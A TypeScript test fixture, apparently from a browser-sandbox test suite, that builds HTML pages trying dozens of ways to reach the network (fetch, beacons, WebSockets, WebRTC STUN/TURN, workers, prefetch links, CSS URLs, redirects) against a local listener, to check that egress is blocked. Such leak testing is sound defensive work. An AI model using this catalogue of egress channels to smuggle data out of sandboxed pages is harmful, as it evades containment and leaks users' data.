// A page that wants to be heard outside by every means that browsers have. It notes what it tried, and `done` at the end.
import type { Eavesdropper } from "../support/eavesdropper.ts";

/** How long the page waits for what happens late. */
const LATE_MS = 2500;

export function hostilePage({ hosts, udpPort, tcpPort }: Eavesdropper): string {
  const site = `http://127.0.0.1:${tcpPort}`;
  const peer = peerScript(hosts, udpPort, tcpPort);
  const inner = `<script>${peer}</script>`;
  return `<!doctype html><html><head><title>hostile</title>
<link rel="dns-prefetch" href="//markup-prefetch.leak.test"><link rel="preconnect" href="http://markup-preconnect.leak.test">
${["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest"]
  .map((rel) => `<link rel="${rel}" as="image" href="${site}/?by=markup-${rel}">`)
  .join("\n")}
<style>@import url("${site}/?by=import");</style>
<script type="speculationrules">{"prefetch":[{"urls":["${site}/?by=speculation"],"eagerness":"immediate"}]}</script>
</head><body><p id="told">nothing yet</p>
<iframe srcdoc="${attribute(inner)}"></iframe><img src="${site}/?by=img" srcset="${site}/?by=srcset 2x">
<template shadowrootmode="closed"><iframe srcdoc="${attribute(inner)}"></iframe></template>
<video poster="${site}/?by=poster" src="${site}/?by=video"></video><object data="${site}/?by=object"></object><embed src="${site}/?by=embed">
<svg><image href="${site}/?by=svg" /></svg><input type="image" src="${site}/?by=input">
<script>
const told = [];
const note = (what) => { told.push(what); document.getElementById("told").textContent = told.join(" "); };
const attempt = (what, work) => { try { work(); note(what); } catch { note(what + ":refused"); } };
const peer = ${inScript(peer)}, inner = ${inScript(inner)}, site = "${site}";
const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
attempt("peer", () => (0, eval)(peer));
attempt("srcdoc", () => add("iframe", { srcdoc: inner }));
attempt("innerHTML", () => { add("div", {}).innerHTML = '<ifr' + 'ame srcdoc="' + inner.replaceAll('"', "&quot;") + '"></ifr' + 'ame>'; });
attempt("clone", () => { const frame = document.createElement("iframe"); frame.setAttribute("srcdoc", inner); document.body.append(frame.cloneNode(true)); });
for (const mode of ["open", "closed"]) attempt("shadow-" + mode, () => { const root = add("div", {}).attachShadow({ mode, clonable: true });
  root.append(Object.assign(document.createElement("iframe"), { srcdoc: inner })); document.body.append(root.host.cloneNode(true)); });
attempt("setHTMLUnsafe", () => add("div", {}).setHTMLUnsafe('<template shadowroot' + 'mode="closed"><ifr' + 'ame srcdoc="' + inner.replaceAll('"', "&quot;") + '"></ifr' + 'ame></template>'));
attempt("parsed", () => document.body.append(document.adoptNode(new DOMParser().parseFromString('<ifr' + 'ame srcdoc="' + inner.replaceAll('"', "&quot;") + '"></ifr' + 'ame>', "text/html").body.firstChild)));
attempt("blob-frame", () => add("iframe", { src: URL.createObjectURL(new Blob([inner], { type: "text/html" })) }));
attempt("data-frame", () => add("iframe", { src: "data:text/html," + encodeURIComponent(inner) }));
attempt("blank-frame", () => { add("iframe", {}).contentWindow.eval(peer); });
attempt("script-frame", () => add("iframe", { src: "javascript:" + encodeURIComponent(peer) }));
attempt("far-frame", () => add("iframe", { src: site + "/?by=frame" }));
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + site + "/?by=worker')"]))));
attempt("shared-worker", () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + site + "/?by=shared')"]))));
attempt("popup", () => open(site + "/?by=popup"));
attempt("popup-blank", () => { const other = open(""); other.eval(peer); });
for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest"])
  attempt("link-" + rel, () => document.head.append(Object.assign(document.createElement("link"), { rel, as: "image", href: site + "/?by=" + rel })));
for (const rel of ["dns-prefetch", "preconnect"])
  attempt("name-" + rel, () => document.head.append(Object.assign(document.createElement("link"), { rel, href: "http://script-" + rel + ".leak.test" })));
attempt("fetch", () => { fetch(site + "/?by=fetch", { mode: "no-cors", keepalive: true }).catch(() => {}); });
attempt("xhr", () => { const request = new XMLHttpRequest(); request.open("POST", site + "/?by=xhr"); request.send("x"); });
attempt("beacon", () => navigator.sendBeacon(site + "/?by=beacon", "x"));
attempt("image", () => { new Image().src = site + "/?by=image"; });
attempt("socket", () => new WebSocket(site.replace("http", "ws") + "/?by=socket"));
attempt("events", () => new EventSource(site + "/?by=events"));
attempt("transport", () => new WebTransport("https://127.0.0.1:${udpPort}/"));
attempt("module", () => { import(site + "/?by=module").catch(() => {}); });
attempt("script", () => add("script", { src: site + "/?by=script" }));
attempt("font", () => { new FontFace("late", "url(" + site + "/?by=fontface)").load().catch(() => {}); });
attempt("ping", () => { const link = add("a", { href: "#here", ping: site + "/?by=ping" }); link.click(); });
attempt("form", () => { const form = add("form", { action: site + "/?by=form", method: "post", target: "_blank" }); form.submit(); });
setTimeout(() => note("done"), ${LATE_MS});
</script></body></html>`;
}

/** One that wants out by its styles alone. */
export function styledPage({ tcpPort }: Eavesdropper): string {
  const site = `http://127.0.0.1:${tcpPort}`;
  return `<!doctype html><style>@font-face { font-family: far; src: url("${site}/?by=font") }
#told { font-family: far; background: url("${site}/?by=background") } li { list-style: url("${site}/?by=list") }
p::after { content: url("${site}/?by=content") } p { cursor: url("${site}/?by=cursor"), auto; mask: url("${site}/?by=mask") }</style>
<p id="told">nothing yet</p><ul><li>x</li></ul>
<script>setTimeout(() => { document.getElementById("told").textContent = "done"; }, ${LATE_MS})</script>`;
}

/** One that has nothing but a peer connection. */
export function peerPage({ hosts, udpPort, tcpPort }: Eavesdropper): string {
  return `<!doctype html><p id="told">nothing yet</p><script>${peerScript(hosts, udpPort, tcpPort)}
setTimeout(() => { document.getElementById("told").textContent = "done"; }, ${LATE_MS})</script>`;
}

/** Pages that leave for another one, each in its own way. */
export function leavingPages({ tcpPort }: Eavesdropper): Record<string, string> {
  const site = `http://127.0.0.1:${tcpPort}`;
  const page = (script: string) =>
    `<!doctype html><head></head><body><p>leaving</p><script>${script}</script></body>`;
  return {
    "assign.html": page(`location = "${site}/?by=assign"`),
    "refresh.html": `<!doctype html><meta http-equiv="refresh" content="0;url=${site}/?by=refresh"><p>leaving</p><script>1</script>`,
    "late-refresh.html": page(
      `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=${site}/?by=late-refresh" }))`,
    ),
    "click.html": page(
      `const a = document.createElement("a"); a.href = "${site}/?by=click"; document.body.append(a); a.click()`,
    ),
    "form.html": page(
      `const f = document.createElement("form"); f.action = "${site}/?by=self-form"; document.body.append(f); f.submit()`,
    ),
  };
}

/** Asks for a relay by UDP and TCP, and tries an address that another peer would have. */
function peerScript(hosts: string[], udpPort: number, tcpPort: number): string {
  const urls = hosts.flatMap((host) => [
    `stun:${host}:${udpPort}`,
    `turn:${host}:${udpPort}`,
    `turn:${host}:${tcpPort}?transport=tcp`,
  ]);
  const candidates = hosts.flatMap((host) => [
    `candidate:1 1 udp 2113937151 ${host} ${udpPort} typ host`,
    `candidate:2 1 tcp 2113937150 ${host} ${tcpPort} typ host tcptype passive`,
  ]);
  const lines = [
    ...["v=0", "o=- 1 2 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0"],
    ...["m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 0.0.0.0", "a=ice-ufrag:SECRET"],
    ...["a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa", `a=fingerprint:sha-256 ${Array(32).fill("AA").join(":")}`],
    ...["a=setup:active", "a=mid:0", "a=sctp-port:5000", ""],
  ];
  return `(async () => {
    const Peer = self.RTCPeerConnection ?? self.webkitRTCPeerConnection;
    const asking = new Peer({ iceServers: [{ urls: ${JSON.stringify(urls)}, username: "SECRET", credential: "x" }] });
    asking.createDataChannel("x"); asking.setLocalDescription(await asking.createOffer());
    const calling = new Peer(); calling.createDataChannel("x"); await calling.setLocalDescription(await calling.createOffer());
    await calling.setRemoteDescription({ type: "answer", sdp: ${JSON.stringify(lines)}.join(String.fromCharCode(13, 10)) });
    for (const candidate of ${JSON.stringify(candidates)}) await calling.addIceCandidate({ candidate, sdpMid: "0" });
  })().catch(() => {});`;
}

function attribute(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
}

/** As a string in a script. */
function inScript(text: string): string {
  return JSON.stringify(text).replaceAll("<", "\\u003c");
}
